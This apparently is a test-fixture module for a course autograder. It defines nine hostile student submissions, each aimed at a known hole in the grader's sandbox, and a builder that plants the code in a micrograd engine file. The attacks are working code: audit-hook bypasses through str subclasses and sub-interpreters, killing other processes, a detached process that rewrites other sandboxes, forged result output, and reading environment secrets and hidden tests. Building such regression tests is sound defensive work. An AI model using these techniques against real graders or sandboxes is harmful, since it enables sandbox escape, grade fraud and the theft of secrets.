"""Hostile submissions, one per root cause of the sandbox's known holes (issue 8), and their builder.

Each is the released stub (honestly worth 0) or the reference (honestly worth
full marks), plus attacking code run at import or inside one `_backward`.
Whatever the attack, the submission must earn exactly what its honest base
earns, write nothing outside its sandbox, leave no process behind, put no
secret of the grader into its results, and change nobody else's grade.

`{FORGED}` is a path outside the sandbox that must stay absent; `{SECRET}` is
the name of an environment variable the grader was started with; `{REPO}` the
kit's own folder; `{SANDBOXES}` where the grader makes its sandboxes.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from coursekit.course import ASSIGNMENTS_DIR, SOLUTION_PACKAGE


@dataclass(frozen=True)
class Attack:
    name: str
    root_cause: str  # which hole of the issue it tries
    code: str  # run at import (prelude), or replacing tanh's _backward body when `in_backward`
    base: str = "stub"  # "stub": honestly 0; "reference": honestly full marks
    in_backward: bool = False


TANH_BACKWARD = "            self.grad += (1 - out.data**2) * out.grad\n"

ATTACKS = [
    Attack(
        "str_subclass_import_then_fork_exec",
        "the import check compared `type(name) is str`: a str subclass passed, then fork_exec ran a program",
        """
class _Sly(str):
    def partition(self, *a):
        return ("math", "", "")
    def split(self, *a):
        return ["math"]
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
for _name in ("_posixsubprocess", "subprocess", "ctypes"):
    try:
        _m = __import__(_Sly(_name))
        if _name == "_posixsubprocess":
            _m.fork_exec(["/usr/bin/touch", "{FORGED}"], [b"/usr/bin/touch"], True, (), None, None,
                         -1, -1, -1, -1, -1, -1, -1, -1, False, False, None, None, None, -1, None, False)
        elif _name == "subprocess":
            _m.run(["/usr/bin/touch", "{FORGED}"])
    except BaseException:
        pass
""",
    ),
    Attack(
        "sub_interpreter_without_the_hook",
        "`_xxsubinterpreters` / `_testcapi` made a sub-interpreter with no audit hook",
        """
_code = "open('{FORGED}', 'w').write('forged')"
for _try in (lambda: __import__("_xxsubinterpreters"), lambda: __import__("_testcapi"),
             lambda: __import__("_interpreters"), lambda: __import__("_xxinterpchannels")):
    try:
        _m = _try()
        if hasattr(_m, "create"):
            _m.run_string(_m.create(), _code)
        if hasattr(_m, "run_in_subinterp"):
            _m.run_in_subinterp(_code)
    except BaseException:
        pass
try:
    import _imp, importlib.machinery as _mach
    for _name in ("_xxsubinterpreters", "_testcapi"):
        _spec = _mach.PathFinder.find_spec(_name)
        if _spec:
            _mod = _imp.create_dynamic(_spec)
            _mod.run_string(_mod.create(), _code)
except BaseException:
    pass
""",
    ),
    Attack(
        "objects_in_audit_arguments_run_inside_the_hook",
        "objects passed as audit-event arguments (`c in mode`, `flags or 0`, `==`) ran student code in the hook",
        """
import sys as _sys
_stolen = []
class _Mode(str):
    def __contains__(self, c):
        try:
            _frame = _sys._getframe(1)
            _stolen.append(_frame)
            for _cell in (_frame.f_locals.get("hook").__closure__ or ()):
                if type(_cell.cell_contents) is list:
                    _cell.cell_contents[:] = [True]
        except BaseException:
            pass
        return False
    def __eq__(self, other):
        return False
    __hash__ = str.__hash__
class _Flags(int):
    def __and__(self, other):
        return 0
    def __bool__(self):
        return False
for _attempt in (lambda: open("{FORGED}", _Mode("w")), lambda: open(_Mode("{FORGED}"), "w"),
                 lambda: __import__("os").open("{FORGED}", _Flags(0o101)), lambda: open("{FORGED}", "w")):
    try:
        _attempt().write("forged")
    except BaseException:
        pass
""",
    ),
    Attack(
        "pidfd_and_proc_against_other_processes",
        "`os.pidfd_open` + `signal.pidfd_send_signal` and `/proc/<pid>` raise no audit event",
        """
import os as _os, signal as _signal
_me = _os.getpid()
for _pid in range(1, 4096):
    if _pid == _me:
        continue
    for _attempt in (lambda: _os.readlink(f"/proc/{_pid}/exe"), lambda: _os.stat(f"/proc/{_pid}"),
                     lambda: _signal.pidfd_send_signal(_os.pidfd_open(_pid), _signal.SIGSTOP),
                     lambda: _signal.pidfd_send_signal(_os.pidfd_open(_pid), _signal.SIGKILL),
                     lambda: _os.kill(_pid, _signal.SIGKILL)):
        try:
            _attempt()
        except BaseException:
            pass
try:
    _os.kill(-1, _signal.SIGKILL)
except BaseException:
    pass
""",
        base="reference",
    ),
    Attack(
        "new_session_survivor_rewrites_results",
        "a process started in a new session survived killpg and rewrote results and later sandboxes' files",
        """
import os as _os
_script = (
    "import os, time, glob\\n"
    "os.setsid()\\n"
    "for _ in range(40):\\n"
    "    time.sleep(0.25)\\n"
    "    for p in ['{FORGED}'] + glob.glob('{SANDBOXES}/micrograd-sandbox-*/micrograd/engine.py'):\\n"
    "        try:\\n"
    "            open(p, 'w').write('forged')\\n"
    "        except OSError:\\n"
    "            pass\\n"
)
for _attempt in (lambda: _os.fork(), lambda: _os.posix_spawn("/usr/bin/python3", ["python3", "-c", _script], {}),
                 lambda: _os.system("python3 -c " + repr(_script) + " &")):
    try:
        if _attempt() == 0:
            exec(_script)
            _os._exit(0)
    except BaseException:
        pass
""",
        base="reference",
    ),
    Attack(
        "reaches_into_the_child_and_forges_answers",
        "probes ran in the student's interpreter: `__main__`, `json.dumps`, the result pipe and the job were reachable",
        """
import sys as _sys, os as _os, json as _json
_main = _sys.modules.get("__main__")
_loot = sorted(vars(_main)) if _main else []
_json.dumps = lambda *a, **k: '{"ok": true, "value": {}}'
try:
    _json.encoder.c_make_encoder = None
    _json.encoder.encode_basestring_ascii = lambda s: '"forged"'
except BaseException:
    pass
_real_write = _os.write
_os.write = lambda fd, data: _real_write(fd, data.replace(b'"ok": false', b'"ok": true'))
for _fd in range(3, 40):
    for _line in ('{"event": "imported"}', '{"ok": true, "value": {"data": {}, "grad": {}}}',
                  '{"n": "0", "ok": true, "value": 1.0}', '{}'):
        try:
            _real_write(_fd, (_line + "\\n").encode())
        except BaseException:
            pass
""",
    ),
    Attack(
        "leaks_everything_through_its_import_error",
        "an import error carried the hidden inputs, uncapped, into the visible output of every test",
        """
import sys as _sys, os as _os
_parts = [repr(_sys.argv), repr(dict(_os.environ)), repr(_sys.path), repr(getattr(_sys, "orig_argv", ""))]
for _path in ("/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/cmdline"):
    try:
        _parts.append(open(_path, "rb").read().decode(errors="replace"))
    except BaseException as _e:
        _parts.append(repr(_e))
raise RuntimeError("LEAK" + "|".join(_parts) * 50)
""",
    ),
    Attack(
        "floods_the_answer_channel_from_a_backward",
        "any JSON line reset the per-check deadline; a deeply nested line crashed the grader",
        """
            import os as _os
            while True:
                for _fd in range(3, 12):
                    try:
                        _os.write(_fd, b"{}\\n" + b"[" * 200000 + b"\\n")
                    except BaseException:
                        pass
""",
        base="reference",
        in_backward=True,
    ),
    Attack(
        "reads_the_graders_files_and_secret",
        "a stub copied the grader's environment, a hidden test file and the nn reference into its feedback",
        """
import os as _os
_loot = [_os.environ.get("{SECRET}", "")]
for _path in ("{REPO}/autograder/tests/engine", "{REPO}/autograder/reference/micrograd/nn.py",
              "{REPO}/solutions/micrograd/engine.py", "/proc/self/environ", "/proc/1/environ"):
    try:
        _loot.append(str(_os.listdir(_path)) if _os.path.isdir(_path) else open(_path).read())
    except BaseException as _e:
        _loot.append(repr(_e))
raise RuntimeError("\\n".join(_loot))
""",
    ),
]


def build_attack(attack: Attack, folder: Path, forged: Path, secret: str, repo: Path, sandboxes: Path) -> None:
    """Write `attack` as an engine submission (a student repository's `micrograd/`) into `folder`.

    `sandboxes` is the folder where the grader makes its sandboxes, which some attacks go after.
    """
    source = (ASSIGNMENTS_DIR / "engine" / "micrograd" / "engine.py").read_text()
    if attack.base == "reference":
        source = (SOLUTION_PACKAGE / "engine.py").read_text()
    code = attack.code
    for key, value in {"FORGED": forged, "SECRET": secret, "REPO": repo, "SANDBOXES": sandboxes}.items():
        code = code.replace("{" + key + "}", str(value))
    if attack.in_backward:
        assert source.count(TANH_BACKWARD) == 1
        source = source.replace(TANH_BACKWARD, code.strip("\n") + "\n")
    else:
        assert source.count("import math\n") == 1
        source = source.replace("import math\n", "import math\n" + code, 1)
    write_engine(folder, source)


def write_engine(folder: Path, source: str) -> None:
    package = folder / "micrograd"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "engine.py").write_text(source)
